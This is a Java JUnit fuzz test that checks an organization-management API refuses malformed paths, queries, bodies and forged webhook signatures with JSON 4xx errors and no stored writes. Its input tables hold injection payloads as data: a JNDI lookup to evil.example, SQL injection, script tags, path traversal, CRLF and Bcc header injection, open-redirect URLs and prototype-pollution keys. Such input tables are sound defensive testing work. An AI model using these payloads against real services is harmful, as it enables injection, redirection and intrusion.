package io.gatekeep.adversarial;

import io.gatekeep.shared.Json;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Table-driven fuzz (fixed seed) of every route's path, query and body, over HTTP through the local
 * runner: wrong types, nulls, huge strings, unicode and control characters, deep nesting, duplicate
 * keys, bytes that are not UTF-8, forged or stale signatures. Every case must be answered with a 4xx in
 * the API's JSON error shape, never a 5xx, and the table must be exactly as it was before the cases
 * (scanned before and after): nothing, not even part of a write, is stored for a refused request.
 */
@Order(2)
class BadInputTest {
    static final long SEED = 20261123L;

    /** One bad request: what it is, and how to send it. */
    record Case(String label, String method, String path, String bearer, Map<String, String> headers, byte[] body) {
        static Case json(String label, String method, String path, String bearer, String body) {
            return new Case(label, method, path, bearer, Map.of(), body == null ? null : body.getBytes(StandardCharsets.UTF_8));
        }
    }

    static Adversarial adv;
    static String admin;
    static String owner;

    @BeforeAll
    static void start() throws Exception {
        adv = Adversarial.get();
        admin = adv.token(adv.acme(), "admin");
        owner = adv.token(adv.acme(), "owner");
    }

    /** Sends every case, then checks the answers and that the table did not change. */
    static void assertRefusedWithoutWrites(List<Case> cases) throws Exception {
        List<String> before = adv.scan();
        List<String> problems = new ArrayList<>();
        for (Case c : cases) {
            Map<String, String> headers = new LinkedHashMap<>(c.headers());
            if (c.bearer() != null) {
                headers.put("Authorization", "Bearer " + c.bearer());
            }
            var r = adv.send(c.method(), c.path(), headers, c.body());
            if (r.status() < 400 || r.status() > 499 || !r.isJsonError()) {
                problems.add(c.label() + " -> " + r);
            }
        }
        List<String> after = adv.scan();
        assertEquals(List.of(), problems, problems.size() + " of " + cases.size() + " cases were not a JSON 4xx");
        assertEquals(before.size(), after.size(), "refused requests wrote items: " + Adversarial.diff(before, after));
        assertEquals(before, after, "refused requests changed items: " + Adversarial.diff(before, after));
    }

    static String enc(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static final List<String> WEIRD_IDS = List.of(
            "x".repeat(5000), "組織", "😀😀😀", "\u202Eevil", "org\u0000x", "..", ".", "/../etc", "org_acme' OR '1'='1",
            "${jndi:ldap://evil.example/a}", "<script>alert(1)</script>", " ", "org\r\nX-Injected: 1", "ORG#org_x", "AUDIT#org_x",
            "org_x#ORG", "-1", "null", "undefined", "[]", "{}", "org_does_not_exist", "\\u0000", "%", "org_\t");

    /** A template route with an organization in the path, with its method and a valid body (from the matrix). */
    record OrgRoute(String method, String suffix, String body) {}

    static List<OrgRoute> orgRoutes() {
        List<OrgRoute> routes = new ArrayList<>();
        String prefix = "/organizations/{organizationId}";
        for (var entry : adv.system.routes().entries()) {
            String path = entry.route().path();
            var row = AuthorizationMatrixTest.matrix().get(entry.routeKey());
            if (path.startsWith(prefix + "/") && row != null) { // a route without a row fails the matrix test
                routes.add(new OrgRoute(entry.route().method(), path.substring(prefix.length()), row.body()));
            }
        }
        return routes;
    }

    @Test
    void pathsWithAnyOrganizationIdAreRefused() throws Exception {
        List<Case> cases = new ArrayList<>();
        Map<String, String> sessions = new LinkedHashMap<>();
        List<OrgRoute> routes = orgRoutes();
        assertTrue(routes.size() >= 5, "organization routes: " + routes);
        for (OrgRoute r : routes) {
            String route = r.suffix();
            cases.add(Case.json(route + " with no organization", r.method(), "/organizations" + route, admin, r.body()));
            cases.add(Case.json(route + " with an empty organization", r.method(), "/organizations/" + route, admin, r.body()));
            for (String id : WEIRD_IDS) {
                String label = route + " with organization " + Json.write(id.length() > 40 ? id.substring(0, 40) + "..." : id);
                String path = "/organizations/" + enc(id) + route;
                // Acme's owner: not this organization.
                cases.add(Case.json(label + " (Acme's owner)", r.method(), path, owner, r.body()));
                // A session on exactly that "organization": passes the session check, then meets the id check or the table.
                cases.add(Case.json(label + " (a session on it)", r.method(), path,
                        sessions.computeIfAbsent(id, org -> adv.token(org, "owner")), r.body()));
            }
        }
        assertTrue(cases.size() > 250, "cases: " + cases.size());
        assertRefusedWithoutWrites(cases);
    }

    @Test
    void badQueriesAreRefused() throws Exception {
        String audit = "/organizations/" + adv.acme() + "/audit-events";
        List<Case> cases = new ArrayList<>();
        for (String limit : List.of("0", "101", "-1", "1.5", "1e2", "abc", "", "%00", enc("１０"), "99999999999999999999",
                "10&limit=20", "x".repeat(10_000), "%20", "0x10", "+5", enc("5\u0000"))) {
            cases.add(Case.json("audit limit=" + abbreviate(limit), "GET", audit + "?limit=" + limit, admin, null));
        }
        for (String type : List.of("DSYNC.", "dsync.*", "a".repeat(65), enc("ü"), enc("dsync. "), "'", "%00", "",
                "dsync.&type=connection.", enc("dsync.user\nX"), "..%2F..")) {
            cases.add(Case.json("audit type=" + abbreviate(type), "GET", audit + "?type=" + type, admin, null));
        }
        // Cursors: garbage, and real ones used where they do not belong.
        String acmeCursor = cursor(adv.acme(), admin, null);
        String globexCursor = cursor(adv.globex(), adv.token(adv.globex(), "owner"), null);
        String filtered = cursor(adv.acme(), admin, "dsync.");
        assertNotNull(acmeCursor, "Acme's audit log has more than one page");
        char last = acmeCursor.charAt(acmeCursor.length() - 1);
        String flipped = acmeCursor.substring(0, acmeCursor.length() - 1) + (last == 'A' ? 'B' : 'A');
        for (String cursor : List.of("garbage", "", "x".repeat(10_000), "eyJhbGciOiJub25lIn0", flipped,
                acmeCursor + "x", globexCursor == null ? "g" : globexCursor, enc("\u0000"))) {
            cases.add(Case.json("audit cursor=" + abbreviate(cursor), "GET", audit + "?cursor=" + enc(cursor), admin, null));
        }
        if (filtered != null) {
            cases.add(Case.json("audit cursor of the dsync. filter without it", "GET", audit + "?cursor=" + enc(filtered), admin, null));
            cases.add(Case.json("audit cursor of the dsync. filter with another", "GET",
                    audit + "?type=connection.&cursor=" + enc(filtered), admin, null));
        }
        for (String type : List.of("nope", "SAML'", "%00", "x".repeat(5000), "saml&type=oidc", enc("sáml"))) {
            cases.add(Case.json("providers type=" + abbreviate(type), "GET", "/providers?type=" + type, admin, null));
        }
        assertRefusedWithoutWrites(cases);
    }

    private static String cursor(String organizationId, String token, String type) throws Exception {
        var r = adv.send("GET", "/organizations/" + organizationId + "/audit-events?limit=1" + (type == null ? "" : "&type=" + type),
                token, null);
        assertEquals(200, r.status(), r.toString());
        return Json.text(r.json(), "nextCursor");
    }

    /** Bodies that are not JSON objects at all, or not the JSON the route takes. */
    static List<byte[]> malformedBodies() {
        List<byte[]> bodies = new ArrayList<>();
        for (String s : List.of("", " ", "{", "}", "nul", "{\"a\":}", "[]", "[{}]", "123", "\"str\"", "null", "true", "{}",
                "{\"\":1}", "\u0000", "{} x", "/* c */{}", "{'sso':true}", "{\"sso\":NaN}", "{\"a\":" + "9".repeat(2000) + "}",
                "\uFEFF{}", "{\"a\":\"\\ud800\"}", "[".repeat(100) + "]".repeat(100), "[".repeat(10_000) + "]".repeat(10_000),
                "{\"a\":".repeat(70) + "1" + "}".repeat(70), "{\"a\":\"" + "x".repeat(2 * 1024 * 1024) + "\"}")) {
            bodies.add(s.getBytes(StandardCharsets.UTF_8));
        }
        bodies.add(new byte[]{(byte) 0xC3, (byte) 0x28, '{', '}'});                      // not UTF-8
        bodies.add(new byte[]{(byte) 0xFF, (byte) 0xFE, '{', 0, '}', 0});              // UTF-16
        bodies.add(null);                                                             // no body at all
        return bodies;
    }

    static final Map<String, List<String>> INVALID_FIELDS = Map.of(
            "/it-contacts", List.of("{\"emails\":null}", "{\"emails\":\"it@acme.com\"}", "{\"emails\":5}", "{\"emails\":true}",
                    "{\"emails\":{}}", "{\"emails\":[]}", "{\"emails\":[1]}", "{\"emails\":[null]}", "{\"emails\":[[]]}",
                    "{\"emails\":[\"not-an-email\"]}", "{\"emails\":[" + "\"a@acme.com\",".repeat(10) + "\"b@acme.com\"]}",
                    "{\"emails\":[\"IT@acme.com\",\"it@acme.com\"]}", "{\"emails\":[\"" + "a".repeat(300) + "@acme.com\"]}",
                    "{\"emails\":[\"it@acme.com\\r\\nBcc: x@evil.example\"]}", "{\"emails\":[\"it@acme.com\",{}]}",
                    "{\"emails\":[\"it@acme.com\"],\"emails\":[\"x@acme.com\"]}", "{\"Emails\":[\"it@acme.com\"]}",
                    "{\"emails\":[\"it@acme.com\\u0000\"]}", "{\"emails\":[\"it@[127.0.0.1]\"]}", "{\"emails\":[\" it@acme.com\"]}"),
            "/portal-links", List.of("{\"intent\":null}", "{\"intent\":1}", "{\"intent\":\"SSO\"}", "{\"intent\":\"sso \"}",
                    "{\"intent\":\"\"}", "{\"intent\":\"unknown\"}", "{\"intent\":\"" + "s".repeat(10_000) + "\"}",
                    "{\"intent\":[\"sso\"]}", "{\"intent\":{\"a\":1}}", "{\"intent\":\"sso\",\"intent\":\"dsync\"}",
                    "{\"intent\":\"sso\\u0000\"}", "{\"intent\":\"ｓｓｏ\"}",
                    url("javascript:alert(1)"), url("http://evil.example/x"), url("https://evil.example"),
                    url("https://localhost@evil.example/"), url("//evil.example"), url("ftp://localhost/"),
                    url("http://localhost/" + "x".repeat(3000)), "{\"intent\":\"sso\",\"returnUrl\":5}",
                    "{\"intent\":\"sso\",\"returnUrl\":[]}", url("http://localhost:99999999/"), url("https://evil.example\\@localhost/"),
                    url("http://LOCALHOST.evil.example/"), url("data:text/html,hi"),
                    "{\"intent\":\"sso\",\"successUrl\":\"http://evil.example/\"}", "{\"intent\":\"sso\",\"successUrl\":{}}"));

    static final Map<String, List<String>> FIELDS = Map.of("/it-contacts", List.of("emails"),
            "/portal-links", List.of("intent", "returnUrl", "successUrl"));

    private static String url(String returnUrl) {
        return "{\"intent\":\"sso\",\"returnUrl\":" + Json.write(returnUrl) + "}";
    }

    @Test
    void badBodiesAreRefused() throws Exception {
        List<Case> cases = new ArrayList<>();
        Random random = new Random(SEED);
        // Every route that takes a body: bodies that are not the JSON object it takes.
        for (OrgRoute r : orgRoutes()) {
            if (r.body() == null) {
                continue;
            }
            int i = 0;
            for (byte[] body : malformedBodies()) {
                cases.add(new Case(r.suffix() + " malformed #" + i++, r.method(), "/organizations/" + adv.acme() + r.suffix(), owner,
                        Map.of(), body));
            }
            // The route's own valid body, made invalid only by what comes after it or by a repeated key.
            for (String body : notOneDocument(r.body())) {
                cases.add(Case.json(r.suffix() + " " + abbreviate(body), r.method(), "/organizations/" + adv.acme() + r.suffix(), owner, body));
            }
        }
        // The routes whose fields this test knows: each field wrong in every way, then seeded random documents.
        for (String route : List.of("/it-contacts", "/portal-links")) {
            String path = "/organizations/" + adv.acme() + route;
            String method = route.equals("/portal-links") ? "POST" : "PUT";
            for (String body : INVALID_FIELDS.get(route)) {
                cases.add(Case.json(route + " " + abbreviate(body), method, path, owner, body));
            }
            // Random documents: junk keys and values around the route's field, which always holds an invalid value.
            List<String> invalid = INVALID_FIELDS.get(route).stream().filter(BadInputTest::parses).toList();
            for (int n = 0; n < 25; n++) {
                var doc = Json.MAPPER.createObjectNode();
                for (int k = random.nextInt(5); k > 0; k--) {
                    doc.set(randomKey(random), RandomJson.value(random, 4));
                }
                var field = Json.parse(invalid.get(random.nextInt(invalid.size())));
                // the junk must not supply a field the invalid entry leaves out (a random "sso": false is a valid plan)
                FIELDS.get(route).forEach(doc::remove);
                field.fieldNames().forEachRemaining(name -> doc.set(name, field.get(name)));
                cases.add(Case.json(route + " random #" + n, method, path, owner, Json.write(doc)));
            }
        }
        assertRefusedWithoutWrites(cases);
    }

    @Test
    void webhooksWithoutAValidSignatureOrNotAnEventAreRefused() throws Exception {
        List<Case> cases = new ArrayList<>();
        long now = System.currentTimeMillis();
        String event = "{\"object\":\"event\",\"id\":\"event_adv_fuzz\",\"event\":\"organization.updated\",\"data\":{\"id\":\""
                + adv.acme() + "\",\"name\":\"Pwned\",\"updated_at\":\"2099-01-01T00:00:00.000Z\"},\"created_at\":\"2099-01-01T00:00:00.000Z\"}";
        byte[] e = event.getBytes(StandardCharsets.UTF_8);
        String good = Adversarial.signature(adv.webhookSecret, now, e);
        String goodHex = good.substring(good.indexOf("v1=") + 3);
        Map<String, String> signatures = new LinkedHashMap<>();
        signatures.put("no signature", null);
        signatures.put("another secret", Adversarial.signature("whsec_not_the_secret", now, e));
        signatures.put("stale (10 minutes old)", Adversarial.signature(adv.webhookSecret, now - 600_000, e));
        signatures.put("from the future (+10 minutes)", Adversarial.signature(adv.webhookSecret, now + 600_000, e));
        signatures.put("over another body", Adversarial.signature(adv.webhookSecret, now, (event + " ").getBytes(StandardCharsets.UTF_8)));
        signatures.put("t not a number", "t=abc, v1=" + goodHex);
        signatures.put("v1 only", "v1=" + goodHex);
        signatures.put("t only", "t=" + now);
        signatures.put("two timestamps", "t=" + now + ", t=" + now + ", v1=" + goodHex);
        signatures.put("v1 too short", "t=" + now + ", v1=" + goodHex.substring(2));
        signatures.put("v1 not hex", "t=" + now + ", v1=" + "z".repeat(64));
        signatures.put("v0 scheme", "t=" + now + ", v0=" + goodHex);
        signatures.put("huge header", "t=" + now + ", v1=" + goodHex + ", x=" + "a".repeat(2000));
        signatures.put("empty", "");
        signatures.put("timestamp in seconds", Adversarial.signature(adv.webhookSecret, now / 1000, e));
        for (var s : signatures.entrySet()) {
            Map<String, String> h = s.getValue() == null ? Map.of() : Map.of("WorkOS-Signature", s.getValue());
            cases.add(new Case("webhook " + s.getKey(), "POST", "/webhooks/workos", null, h, e));
        }
        // Correctly signed, but not a WorkOS event.
        int i = 0;
        List<byte[]> notEvents = new ArrayList<>(malformedBodies());
        for (String s : List.of("{\"event\":\"organization.updated\"}", "{\"id\":\"event_x\"}", "{\"id\":\"\",\"event\":\"x\"}",
                "{\"id\":\"event_x\",\"event\":\"\"}", "{\"id\":null,\"event\":\"x\"}", "{\"id\":{},\"event\":\"x\"}",
                "{\"id\":\"" + "e".repeat(300) + "\",\"event\":\"x\"}", "{\"id\":\"event_x\",\"event\":[\"x\"]}",
                "{\"id\":\"a\",\"id\":\"b\",\"event\":\"x\"}", "{\"id\":\"event_x\",\"event\":\"x\",\"event\":\"y\"}")) {
            notEvents.add(s.getBytes(StandardCharsets.UTF_8));
        }
        for (byte[] body : notEvents) {
            byte[] b = body == null ? new byte[0] : body;
            cases.add(new Case("webhook signed, not an event #" + i++, "POST", "/webhooks/workos", null,
                    Map.of("WorkOS-Signature", Adversarial.signature(adv.webhookSecret, System.currentTimeMillis(), b)), body));
        }
        assertRefusedWithoutWrites(cases);
    }

    /**
     * A valid body made invalid by strictness alone: trailing garbage, a second document (the attacker's),
     * a stray closing bracket, a repeated key whose second value would win. Every one must be refused.
     */
    static List<String> notOneDocument(String valid) {
        String firstKey = Json.parse(valid).fieldNames().next();
        String repeated = "{\"" + firstKey + "\":" + Json.write(Json.parse(valid).get(firstKey)) + "," + valid.substring(1);
        return List.of(valid + "garbage", valid + " " + valid, valid + "}", valid + "]", valid + "\n{}", valid + " null",
                valid + "0", valid + "\"x\"", repeated, "[" + valid + "]");
    }

    private static boolean parses(String json) {
        try {
            Json.parse(json);
            return true;
        } catch (IllegalArgumentException duplicateKeys) {
            return false;
        }
    }

    static String randomKey(Random random) {
        String[] keys = {"a", "", "__proto__", "constructor", "ü", "😀", "k\u0000", "x".repeat(300), "intent", "emails", "sso", "id"};
        return keys[random.nextInt(keys.length)];
    }

    static String abbreviate(String s) {
        String t = s.length() > 60 ? s.substring(0, 60) + "...(" + s.length() + ")" : s;
        return t.replace("\r", "\\r").replace("\n", "\\n").replace("\u0000", "\\0");
    }
}
